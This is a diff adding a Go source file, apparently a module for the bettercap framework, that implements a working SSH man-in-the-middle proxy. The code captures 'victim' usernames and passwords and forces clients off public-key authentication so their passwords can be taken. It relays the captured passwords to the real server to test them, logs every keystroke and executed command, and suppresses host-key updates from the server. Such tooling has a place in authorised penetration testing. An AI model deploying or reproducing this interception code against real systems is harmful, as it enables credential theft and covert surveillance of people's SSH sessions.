@@ -0,0 +1,393 @@
+package ssh_proxy
+
+import (
+	"fmt"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/session"
+)
+
+const (
+	maxAuthAttempts = 6
+	authMethods     = "password,keyboard-interactive"
+)
+
+// SSHCredentials is the data of the ssh.proxy.credentials event.
+type SSHCredentials struct {
+	Client   string `json:"client"`
+	Server   string `json:"server"`
+	Username string `json:"username"`
+	Method   string `json:"method"`
+	Password string `json:"password"`
+	// true if the credentials have been verified against the real server
+	Relayed bool `json:"relayed"`
+	Valid   bool `json:"valid"`
+}
+
+// SSHInputEvent is the data of the ssh.proxy.input and ssh.proxy.exec events.
+type SSHInputEvent struct {
+	Client   string `json:"client"`
+	Server   string `json:"server"`
+	Username string `json:"username"`
+	Channel  uint32 `json:"channel"`
+	Data     string `json:"data"`
+}
+
+type sshSession struct {
+	mod      *SSHProxy
+	victim   *transport
+	upstream *transport
+	client   string
+	server   string
+	username string
+	lines    map[uint32][]byte
+}
+
+func (s *sshSession) fail(err error) {
+	s.mod.Debug("%s: %s", s.client, err)
+}
+
+// acceptService waits for the ssh-userauth service request.
+func acceptService(t *transport) error {
+	payload, err := t.readExpected(msgServiceRequest)
+	if err != nil {
+		return err
+	}
+
+	r := newReader(payload[1:])
+	if service := r.string(); r.err != nil {
+		return r.err
+	} else if service != "ssh-userauth" {
+		return fmt.Errorf("unexpected service request %s", service)
+	}
+
+	return t.writePacket(newMessage(msgServiceAccept).string("ssh-userauth").Bytes())
+}
+
+func requestService(t *transport) error {
+	if err := t.writePacket(newMessage(msgServiceRequest).string("ssh-userauth").Bytes()); err != nil {
+		return err
+	}
+	_, err := t.readExpected(msgServiceAccept)
+	return err
+}
+
+// readAuthReply skips banners until the server accepts or rejects the request.
+func readAuthReply(t *transport) ([]byte, error) {
+	for {
+		payload, err := t.readMessage()
+		if err != nil {
+			return nil, err
+		} else if payload[0] != msgUserAuthBanner {
+			return payload, nil
+		}
+	}
+}
+
+func failureMethods(payload []byte) []string {
+	r := newReader(payload[1:])
+	return r.nameList()
+}
+
+func hasMethod(methods []string, method string) bool {
+	for _, m := range methods {
+		if m == method {
+			return true
+		}
+	}
+	return false
+}
+
+func (s *sshSession) dialUpstream() error {
+	if s.upstream != nil {
+		return nil
+	}
+
+	conn, err := net.DialTimeout("tcp", s.server, 10*time.Second)
+	if err != nil {
+		return err
+	}
+
+	t := newTransport(conn, false, s.mod.version, nil)
+	if err := t.handshake(); err != nil {
+		conn.Close()
+		return err
+	} else if err := requestService(t); err != nil {
+		conn.Close()
+		return err
+	}
+
+	s.mod.Debug("connected to %s (%s)", s.server, t.remoteVersion)
+	s.upstream = t
+	return nil
+}
+
+// authUpstream authenticates with the real server using the victim credentials.
+func (s *sshSession) authUpstream(username, password string) (bool, error) {
+	if err := s.dialUpstream(); err != nil {
+		return false, err
+	}
+
+	t := s.upstream
+	if err := t.writePacket(newMessage(msgUserAuthRequest).
+		string(username).
+		string("ssh-connection").
+		string("password").
+		bool(false).
+		string(password).Bytes()); err != nil {
+		return false, err
+	}
+
+	reply, err := readAuthReply(t)
+	if err != nil {
+		return false, err
+	} else if reply[0] == msgUserAuthSuccess {
+		return true, nil
+	} else if reply[0] != msgUserAuthFailure || !hasMethod(failureMethods(reply), "keyboard-interactive") {
+		// failure or password change request
+		return false, nil
+	}
+
+	// the server only accepts keyboard-interactive, answer every prompt with the password
+	if err := t.writePacket(newMessage(msgUserAuthRequest).
+		string(username).
+		string("ssh-connection").
+		string("keyboard-interactive").
+		string("").
+		string("").Bytes()); err != nil {
+		return false, err
+	}
+
+	for {
+		reply, err := readAuthReply(t)
+		if err != nil {
+			return false, err
+		} else if reply[0] == msgUserAuthSuccess {
+			return true, nil
+		} else if reply[0] != msgUserAuthInfoRequest {
+			return false, nil
+		}
+
+		r := newReader(reply[1:])
+		r.string()
+		r.string()
+		r.string()
+		prompts := r.uint32()
+		if r.err != nil || prompts > 16 {
+			return false, fmt.Errorf("invalid keyboard-interactive request")
+		}
+
+		response := newMessage(msgUserAuthInfoResponse).uint32(prompts)
+		for i := uint32(0); i < prompts; i++ {
+			response.string(password)
+		}
+		if err := t.writePacket(response.Bytes()); err != nil {
+			return false, err
+		}
+	}
+}
+
+// readPassword asks the victim for its password with a keyboard-interactive prompt.
+func (s *sshSession) readPassword(username string) (string, error) {
+	if err := s.victim.writePacket(newMessage(msgUserAuthInfoRequest).
+		string("").
+		string("").
+		string("").
+		uint32(1).
+		string(fmt.Sprintf("(%s@%s) Password: ", username, strings.Split(s.server, ":")[0])).
+		bool(false).Bytes()); err != nil {
+		return "", err
+	}
+
+	payload, err := s.victim.readExpected(msgUserAuthInfoResponse)
+	if err != nil {
+		return "", err
+	}
+
+	r := newReader(payload[1:])
+	if n := r.uint32(); n < 1 {
+		return "", nil
+	}
+	password := r.string()
+	return password, r.err
+}
+
+// authenticate runs the authentication protocol with the victim, capturing its
+// credentials and, if relaying, verifying them against the real server.
+func (s *sshSession) authenticate() (bool, error) {
+	for attempts := 0; attempts < maxAuthAttempts; {
+		payload, err := s.victim.readExpected(msgUserAuthRequest)
+		if err != nil {
+			return false, err
+		}
+
+		r := newReader(payload[1:])
+		username := r.string()
+		r.string()
+		method := r.string()
+		if r.err != nil {
+			return false, r.err
+		}
+
+		password := ""
+		switch method {
+		case "password":
+			r.bool()
+			password = r.string()
+		case "keyboard-interactive":
+			if password, err = s.readPassword(username); err != nil {
+				return false, err
+			}
+		case "publickey":
+			r.bool()
+			algo := r.string()
+			s.mod.Info("%s is trying to authenticate as %s with a %s key", s.client, username, algo)
+			fallthrough
+		default:
+			// force the client to fall back to a method we can capture
+			if err := s.victim.writePacket(newMessage(msgUserAuthFailure).string(authMethods).bool(false).Bytes()); err != nil {
+				return false, err
+			}
+			continue
+		}
+
+		if r.err != nil {
+			return false, r.err
+		}
+
+		attempts++
+		creds := SSHCredentials{
+			Client:   s.client,
+			Server:   s.server,
+			Username: username,
+			Method:   method,
+			Password: password,
+			Relayed:  s.mod.relay,
+		}
+
+		if s.mod.relay {
+			if creds.Valid, err = s.authUpstream(username, password); err != nil {
+				s.mod.Warning("could not relay credentials of %s to %s: %s", s.client, s.server, err)
+				creds.Relayed = false
+				// reconnect on the next attempt
+				if s.upstream != nil {
+					s.upstream.conn.Close()
+					s.upstream = nil
+				}
+			}
+		}
+
+		s.mod.Session.Events.Add("ssh.proxy.credentials", creds)
+		s.mod.Session.Bus.Publish(session.TopicCredential, "ssh.proxy", session.Credential{
+			Protocol: "ssh",
+			Client:   creds.Client,
+			Server:   creds.Server,
+			Username: creds.Username,
+			Password: creds.Password,
+		})
+
+		if creds.Valid {
+			s.username = username
+			return true, s.victim.writePacket([]byte{msgUserAuthSuccess})
+		} else if err := s.victim.writePacket(newMessage(msgUserAuthFailure).string(authMethods).bool(false).Bytes()); err != nil {
+			return false, err
+		}
+	}
+
+	return false, nil
+}
+
+// track logs the victim keystrokes and commands.
+func (s *sshSession) track(payload []byte) {
+	r := newReader(payload[1:])
+	channel := r.uint32()
+
+	if payload[0] == msgChannelRequest {
+		if request := r.string(); request == "exec" {
+			r.bool()
+			if command := r.string(); r.err == nil {
+				s.emit("ssh.proxy.exec", channel, command)
+			}
+		}
+		return
+	} else if payload[0] != msgChannelData {
+		return
+	}
+
+	data := r.bytes()
+	if r.err != nil {
+		return
+	}
+
+	line := s.lines[channel]
+	for _, b := range data {
+		switch {
+		case b == '\r' || b == '\n':
+			if len(line) > 0 {
+				s.emit("ssh.proxy.input", channel, string(line))
+				line = line[:0]
+			}
+		case b == 0x7f || b == 0x08:
+			if len(line) > 0 {
+				line = line[:len(line)-1]
+			}
+		case b >= 0x20 || b == '\t':
+			line = append(line, b)
+		}
+	}
+	s.lines[channel] = line
+}
+
+func (s *sshSession) emit(tag string, channel uint32, data string) {
+	s.mod.Session.Events.Add(tag, SSHInputEvent{
+		Client:   s.client,
+		Server:   s.server,
+		Username: s.username,
+		Channel:  channel,
+		Data:     data,
+	})
+}
+
+// pipe forwards the connection protocol messages from a transport to the other one.
+func (s *sshSession) pipe(from, to *transport, fromVictim bool, wg *sync.WaitGroup) {
+	defer wg.Done()
+	defer to.conn.Close()
+
+	for {
+		payload, err := from.readMessage()
+		if err != nil {
+			s.fail(err)
+			return
+		} else if payload[0] < msgGlobalRequest {
+			// leftovers of the authentication, not meant for the other side
+			continue
+		}
+
+		if fromVictim {
+			s.track(payload)
+		} else if payload[0] == msgGlobalRequest {
+			// don't let the real server update the host keys known by the victim
+			if r := newReader(payload[1:]); r.string() == "hostkeys-00@openssh.com" {
+				continue
+			}
+		}
+
+		if err := to.writePacket(payload); err != nil {
+			s.fail(err)
+			return
+		}
+	}
+}
+
+func (s *sshSession) relay() {
+	wg := sync.WaitGroup{}
+	wg.Add(2)
+
+	go s.pipe(s.victim, s.upstream, true, &wg)
+	go s.pipe(s.upstream, s.victim, false, &wg)
+
+	wg.Wait()
+}